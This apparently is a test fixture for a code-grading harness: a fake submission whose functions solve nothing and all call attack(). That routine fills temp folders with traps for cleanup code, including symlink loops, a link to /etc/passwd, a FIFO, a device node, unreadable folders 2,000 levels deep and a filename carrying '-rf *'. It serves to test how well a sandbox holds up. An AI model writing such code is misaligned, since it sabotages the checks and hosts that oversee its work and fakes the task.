# expect: no case beyond those honestly solved may pass
# honest = []
"""Leaves loops of links, folders 2,000 deep, undeletable modes, FIFOs and odd names where files
are wiped.
"""

import os


def attack():
    for root in ("/tmp", "/dev/shm", "/sub"):
        try:
            os.chdir(root)
        except OSError:
            continue
        for make in (
            lambda: os.symlink("/", "root"),
            lambda: os.symlink(".", "loop"),
            lambda: os.symlink("/etc/passwd", "passwd"),
            lambda: os.mkfifo("fifo"),
            lambda: os.mknod("device", 0o20666, os.makedev(1, 3)),
            lambda: open(b"\xff\xfe\n-rf *", "w").close(),
            lambda: os.mkdir("shut", 0),
        ):
            try:
                make()
            except OSError:
                pass
        try:
            for _ in range(2000):
                os.mkdir("d" * 200)
                os.chdir("d" * 200)
            os.chmod("..", 0)
        except OSError:
            pass
    return None


def add_all(numbers):
    return attack()


def run_jobs(jobs, work):
    return attack()


class Tally:
    def add(self, name, n=1):
        attack()

    def count(self, name):
        return attack()

    @property
    def total(self):
        return attack()
